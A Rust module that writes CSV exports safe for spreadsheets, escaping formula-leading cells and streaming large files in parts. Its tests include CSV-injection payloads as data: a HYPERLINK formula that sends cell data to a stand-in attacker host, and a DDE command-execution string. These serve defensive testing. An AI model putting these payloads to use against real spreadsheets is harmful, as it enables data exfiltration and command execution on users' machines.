//! CSV files for spreadsheets, one writer for every export. Vendor strings
//! go into these files, and a spreadsheet runs a cell that starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return as a formula
//! (`=HYPERLINK(...)` phoning home with the row): such a cell gets a leading
//! apostrophe, which spreadsheets show as text (OWASP's advice). Plain
//! numbers, negative ones included, stay numbers.

use std::borrow::Cow;

/// The cell as a spreadsheet will show it, never run it.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let risky = matches!(cell.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_plain_number(cell: &str) -> bool {
    cell.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'-' | b'+' | b'.')) && cell.parse::<f64>().is_ok()
}

/// A header row and data rows as CSV (RFC 4180 quoting), every cell made
/// spreadsheet-safe.
pub fn to_csv<H, R, C>(header: H, rows: R) -> Result<String, String>
where
    H: IntoIterator,
    H::Item: AsRef<str>,
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    let mut text = String::new();
    to_csv_parts(header, rows, usize::MAX, |part| text.push_str(part))?;
    Ok(text)
}

/// The same CSV, handed to `part` every `rows_per_part` rows: a 50,000-row
/// export never holds the whole file in wasm memory at once.
pub fn to_csv_parts<H, R, C>(header: H, rows: R, rows_per_part: usize, mut part: impl FnMut(&str)) -> Result<(), String>
where
    H: IntoIterator,
    H::Item: AsRef<str>,
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    fn write_row<I: IntoIterator<Item = impl AsRef<str>>>(
        w: &mut csv::Writer<Vec<u8>>,
        cells: I,
    ) -> Result<(), String> {
        for cell in cells {
            w.write_field(spreadsheet_safe(cell.as_ref()).as_bytes()).map_err(|e| e.to_string())?;
        }
        w.write_record(None::<&[u8]>).map_err(|e| e.to_string())
    }
    fn flush(w: &mut csv::Writer<Vec<u8>>, part: &mut impl FnMut(&str)) -> Result<(), String> {
        let full = std::mem::replace(w, csv::Writer::from_writer(Vec::new()));
        let bytes = full.into_inner().map_err(|e| e.to_string())?;
        part(std::str::from_utf8(&bytes).map_err(|e| e.to_string())?);
        Ok(())
    }
    let mut w = csv::Writer::from_writer(Vec::new());
    write_row(&mut w, header)?;
    for (i, row) in rows.into_iter().enumerate() {
        write_row(&mut w, row)?;
        if (i + 1) % rows_per_part.max(1) == 0 {
            flush(&mut w, &mut part)?;
        }
    }
    flush(&mut w, &mut part)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parts_join_to_the_whole_file() {
        let rows: Vec<[String; 2]> = (0..25).map(|i| [format!("v{i}"), "=1+1".to_string()]).collect();
        let whole = to_csv(["a", "b"], rows.clone()).expect("csv");
        let mut parts = Vec::new();
        to_csv_parts(["a", "b"], rows, 10, |p| parts.push(p.to_string())).expect("csv");
        // 10 + 10 + 5 rows (the header rides with the first part).
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[0].lines().count(), 11);
        assert_eq!(parts.concat(), whole);
    }

    #[test]
    fn formulas_become_text() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tTAB",
            "\rCR",
            "=",
            "-",
        ] {
            let safe = spreadsheet_safe(formula);
            assert_eq!(safe, format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn ordinary_text_and_numbers_stay_as_they_are() {
        for cell in
            ["Kangoo Lyon", "AB-123-CD", "", "'quoted", "12", "-12", "-0.5", "+33", "2026-06-02T18:36:51+00:00", "a=b"]
        {
            assert_eq!(spreadsheet_safe(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn every_cell_of_a_file_is_neutralised_and_quoted() {
        let csv = to_csv(["Plate", "Name"], [["=1+1", "Kangoo, \"Lyon\""], ["-3", "@x"]]).expect("csv");
        assert_eq!(csv, "Plate,Name\n'=1+1,\"Kangoo, \"\"Lyon\"\"\"\n-3,'@x\n");
    }
}
